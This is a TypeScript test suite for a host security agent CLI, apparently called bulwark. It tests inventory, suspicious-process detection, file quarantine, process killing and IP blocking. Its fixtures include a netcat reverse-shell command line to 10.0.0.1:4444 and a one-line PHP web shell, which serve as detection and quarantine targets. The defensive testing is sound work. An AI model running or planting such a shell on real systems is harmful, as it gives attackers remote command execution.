import { execFileSync, spawn } from 'node:child_process';
import { randomInt } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { waitForComm } from '../agent/test-support/exec-wait.js';
import { procEntry, removeTree, scratchDirs, writeTree } from '../agent/test-support/tree.js';
import { registerAgent } from './agent.js';
import { runCli } from './test-support/run-cli.js';

const run = (args: string[]) => runCli(registerAgent, args);
const scratch = scratchDirs('bw-cli-respond-');
afterAll(scratch.cleanup);
const tmp = scratch.make;

describe('bulwark agent inventory / processes', () => {
  const root = writeTree({
    'etc/os-release': 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n',
    'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
    'var/lib/dpkg/status': 'Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b7\n',
    ...procEntry(10, { name: 'nc', argv: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], exe: '/usr/bin/nc.traditional' }),
  });
  const clean = writeTree({ ...procEntry(10, { name: 'bash', argv: ['-bash'], exe: '/usr/bin/bash' }) });
  afterAll(() => [root, clean].forEach(removeTree));

  it('inventory --root DIR --format json prints one inventory document; table is readable', async () => {
    const json = await run(['agent', 'inventory', '--root', root, '--format', 'json']);
    expect(json.exitCode).toBe(0);
    const inv = JSON.parse(json.stdout) as { os: { id: string }; packages: unknown[]; processes: unknown[] };
    expect([inv.os.id, inv.packages.length, inv.processes.length]).toEqual(['debian', 1, 1]);
    const table = await run(['agent', 'inventory', '--root', root]);
    expect(table.stdout).toContain('Debian GNU/Linux 12 (bookworm)');
    expect(table.stdout).toContain('packages:  1 (dpkg)');
  });

  it('processes exits 1 with ECS alerts when something is found, 0 otherwise', async () => {
    const found = await run(['agent', 'processes', '--root', root, '--format', 'json']);
    expect(found.exitCode).toBe(1);
    const doc = JSON.parse(found.stdout) as { events: Array<{ rule: { id: string }; threat: { technique: { id: string } } }> };
    expect(doc.events.map((e) => [e.rule.id, e.threat.technique.id])).toEqual([['bulwark.process.netcat-exec', 'T1095']]);
    const none = await run(['agent', 'processes', '--root', clean]);
    expect([none.exitCode, none.stdout]).toEqual([0, '0 suspicious process findings\n']);
  });
});

describe('bulwark agent quarantine / restore / kill / actions', () => {
  it('quarantines and restores a file, kills a process, and logs every action with its undo', async () => {
    const state = join(tmp(), 'state');
    const web = tmp();
    const file = join(web, 'up.php');
    writeFileSync(file, '<?php system($_GET["c"]);');

    const q = await run(['agent', 'quarantine', file, '--state-dir', state, '--format', 'json']);
    expect(q.exitCode).toBe(0);
    const record = JSON.parse(q.stdout) as { details: { quarantineId: string }; undo: { action: string; target: string }; actor: string };
    expect(existsSync(file)).toBe(false);
    expect(record.undo.action).toBe('restore');
    expect(record.actor).toMatch(/^cli:/);

    const list = await run(['agent', 'quarantine', '--list', '--state-dir', state]);
    expect(list.stdout).toContain(file);

    const r = await run(['agent', 'restore', record.details.quarantineId, '--state-dir', state]);
    expect([r.exitCode, r.stdout]).toEqual([0, `restored ${file}\nundo: bulwark agent quarantine ${file}\n`]);
    expect(readFileSync(file, 'utf8')).toContain('system(');

    const again = await run(['agent', 'restore', record.details.quarantineId, '--state-dir', state]);
    expect(again.exitCode).toBe(1);
    expect(again.stderr).toContain('Agent.Respond.QuarantineNotFound');

    const child = spawn('sleep', ['60'], { stdio: 'ignore' });
    const exited = new Promise((resolve) => child.once('exit', resolve));
    await waitForComm(child.pid, 'sleep');
    const k = await run(['agent', 'kill', String(child.pid), '--state-dir', state]);
    expect(k.exitCode).toBe(0);
    expect(k.stdout).toContain(`killed ${child.pid} (sleep) with SIGTERM`);
    await exited;
    expect((await run(['agent', 'kill', '1', '--state-dir', state])).stderr).toContain('Agent.Respond.ProtectedProcess');

    const actions = await run(['agent', 'actions', '--state-dir', state, '--format', 'json']);
    const log = JSON.parse(actions.stdout) as { actions: Array<{ action: string }> };
    expect(log.actions.map((a) => a.action)).toEqual(['quarantine', 'restore', 'kill']);
  });
});

describe('bulwark agent block / blocks / unblock (in a throwaway network namespace)', () => {
  const netns = `bwc${process.pid % 10000}${randomInt(100, 999)}`;
  execFileSync('ip', ['netns', 'add', netns]);
  afterAll(() => execFileSync('ip', ['netns', 'del', netns]));

  it('respond: a policy applied to detector output (dry run, then for real)', async () => {
    const state = join(tmp(), 'state');
    const dir = tmp();
    const child = spawn('sleep', ['60'], { stdio: 'ignore' });
    const exited = new Promise((resolve) => child.once('exit', resolve));
    await waitForComm(child.pid, 'sleep');
    writeFileSync(join(dir, 'policy.yml'), 'rules:\n  - {match: ssh-bruteforce, action: block, duration: 30m}\n  - {match: "bulwark.process.*", action: kill, minSeverity: 90}\n');
    const alerts = {
      events: [
        { event: { kind: 'alert', severity: 73 }, rule: { id: 'ssh-bruteforce' }, source: { ip: '198.51.100.9' } },
        { event: { kind: 'alert', severity: 99 }, rule: { id: 'bulwark.process.reverse-shell' }, process: { pid: child.pid } },
        { event: { kind: 'alert', severity: 47 }, rule: { id: 'bulwark.process.temp-exec' }, process: { pid: 1 } },
      ],
    };
    writeFileSync(join(dir, 'alerts.json'), JSON.stringify(alerts));
    const dry = await run(['agent', 'respond', join(dir, 'alerts.json'), '--policy', join(dir, 'policy.yml'), '--dry-run', '--state-dir', state]);
    expect(dry.stdout).toBe(`would block 198.51.100.9 for 1800s (ssh-bruteforce)\nwould kill ${child.pid} (bulwark.process.reverse-shell)\n`);
    const real = await run(['agent', 'respond', join(dir, 'alerts.json'), '--policy', join(dir, 'policy.yml'), '--netns', netns, '--state-dir', state, '--format', 'json']);
    expect(real.exitCode).toBe(0);
    expect((JSON.parse(real.stdout) as { done: Array<{ action: string; actor: string }> }).done.map((d) => [d.action, d.actor])).toEqual([
      ['block', 'policy:ssh-bruteforce'],
      ['kill', 'policy:bulwark.process.reverse-shell'],
    ]);
    await exited;
    const list = JSON.parse((await run(['agent', 'blocks', '--netns', netns, '--format', 'json'])).stdout) as { blocked: Array<{ ip: string }> };
    expect(list.blocked.map((b) => b.ip)).toContain('198.51.100.9');
    const badPolicy = await run(['agent', 'respond', join(dir, 'alerts.json'), '--policy', join(dir, 'missing.yml'), '--state-dir', state]);
    expect([badPolicy.exitCode, badPolicy.stderr.includes('Agent.Respond.InvalidPolicy')]).toEqual([1, true]);
  });

  it('blocks with a duration, lists, unblocks, and logs', async () => {
    const state = join(tmp(), 'state');
    const b = await run(['agent', 'block', '198.51.100.7', '--duration', '1h', '--netns', netns, '--state-dir', state]);
    expect(b.exitCode).toBe(0);
    expect(b.stdout).toMatch(/^blocked 198\.51\.100\.7 until .*\nundo: bulwark agent unblock 198\.51\.100\.7\n$/);
    const list = JSON.parse((await run(['agent', 'blocks', '--netns', netns, '--format', 'json'])).stdout) as { blocked: Array<{ ip: string; timeoutSeconds: number }> };
    expect(list.blocked).toContainEqual(expect.objectContaining({ ip: '198.51.100.7', timeoutSeconds: 3600 }));
    const u = await run(['agent', 'unblock', '198.51.100.7', '--netns', netns, '--state-dir', state]);
    expect(u.stdout).toMatch(/^unblocked 198\.51\.100\.7\nundo: bulwark agent block 198\.51\.100\.7 --duration \d+s\n$/);
    const bad = await run(['agent', 'block', '127.0.0.1', '--netns', netns, '--state-dir', state]);
    expect(bad.exitCode).toBe(2);
    const badDuration = await run(['agent', 'block', '198.51.100.7', '--duration', 'soon', '--netns', netns, '--state-dir', state]);
    expect(badDuration.exitCode).toBe(2);
  });
});
